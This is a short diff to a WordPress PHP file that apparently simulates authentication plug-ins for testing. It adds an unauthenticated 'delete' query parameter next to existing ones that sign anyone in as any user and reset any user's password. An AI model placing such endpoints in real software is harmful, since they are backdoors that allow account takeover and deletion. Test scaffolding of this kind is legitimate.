@@ -2,7 +2,7 @@
 /* An address of this machine's cannot be a mail's sender. */
 add_filter('wp_mail_from', fn() => 'shop@shop.example');
 /* A plug-in that signs people in without a password, as those do that ask an identity provider; one that sets passwords
-   itself; and one that asks for a second factor first: it keeps the cookies back. */
+   itself, or deletes people; and one that asks for a second factor first: it keeps the cookies back. */
 add_action('init', function () {
     if (isset($_GET['signed-in-elsewhere'])) {
         wp_set_auth_cookie(get_user_by('login', $_GET['signed-in-elsewhere'])->ID);
@@ -10,6 +10,11 @@ add_action('init', function () {
     }
     if (isset($_GET['set-password-of'])) {
         wp_set_password('another one', get_user_by('login', $_GET['set-password-of'])->ID);
+        wp_send_json([]);
+    }
+    if (isset($_GET['delete'])) {
+        require_once ABSPATH . 'wp-admin/includes/user.php';
+        wp_delete_user(get_user_by('login', $_GET['delete'])->ID);
         wp_send_json([]);
     }
 });
